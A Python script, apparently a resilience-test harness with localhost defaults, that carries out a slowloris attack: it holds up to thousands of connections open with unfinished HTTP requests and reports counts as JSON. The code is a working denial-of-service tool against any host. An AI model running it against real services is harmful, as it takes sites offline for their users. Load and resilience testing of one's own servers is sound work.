#!/usr/bin/env python3
"""Slow connections from one address (slowloris): open N connections to HOST:PORT from SOURCE,
send a request's first line and then one header line every few seconds, never finishing, for
SECONDS; a connection the server closes is opened again. Writes a JSON summary to --out:
opened, refused (connect failed), closed_by_server, max_open (at once), open_at_end.
"""
import argparse
import asyncio
import json
import resource
import time


async def main(a):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    st = {"connections": a.connections, "opened": 0, "refused": 0, "closed_by_server": 0,
          "max_open": 0, "open_at_end": 0, "seconds": a.seconds}
    open_now = [0]
    end = time.monotonic() + a.seconds

    async def one(i):
        while time.monotonic() < end:
            try:
                r, w = await asyncio.wait_for(asyncio.open_connection(
                    a.host, a.port, local_addr=(a.source, 0)), 5)
            except (OSError, asyncio.TimeoutError):
                st["refused"] += 1
                await asyncio.sleep(0.5)
                continue
            st["opened"] += 1
            open_now[0] += 1
            st["max_open"] = max(st["max_open"], open_now[0])
            try:
                w.write(f"GET /complaints?slow={i} HTTP/1.1\r\nHost: {a.host}\r\n".encode())
                await w.drain()
                n = 0
                while time.monotonic() < end:
                    # the server closing the connection shows as EOF on the read side
                    try:
                        data = await asyncio.wait_for(r.read(1024), a.interval)
                        if not data:
                            break
                    except asyncio.TimeoutError:
                        pass
                    w.write(f"X-Slow-{n}: {n}\r\n".encode())
                    n += 1
                    await w.drain()
                else:
                    st["open_at_end"] += 1
                    w.close()
                    return
                st["closed_by_server"] += 1
            except (OSError, ConnectionError):
                st["closed_by_server"] += 1
            finally:
                open_now[0] -= 1
                w.close()

    tasks = []
    for i in range(a.connections):
        tasks.append(asyncio.create_task(one(i)))
        if i % 100 == 99:
            await asyncio.sleep(0.05)
    await asyncio.gather(*tasks, return_exceptions=True)
    with open(a.out, "w") as f:
        json.dump(st, f)
    print(json.dumps(st))


if __name__ == "__main__":
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--source", default="127.0.0.5")
    p.add_argument("--connections", type=int, default=2000)
    p.add_argument("--seconds", type=float, default=15)
    p.add_argument("--interval", type=float, default=3)
    p.add_argument("--out", required=True)
    asyncio.run(main(p.parse_args()))
